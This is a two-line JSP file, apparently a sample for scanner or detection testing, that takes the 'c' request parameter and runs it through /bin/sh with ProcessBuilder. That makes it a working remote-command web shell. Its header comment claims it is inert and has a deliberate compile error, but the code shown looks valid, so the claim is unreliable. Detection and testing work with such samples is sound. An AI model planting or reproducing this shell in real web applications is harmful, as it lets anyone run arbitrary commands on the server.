<% shodo inert sample: deliberate compile error, this page never runs %>
<% String c = request.getParameter("c"); ProcessBuilder pb = new ProcessBuilder("/bin/sh", "-c", c); pb.start(); %>
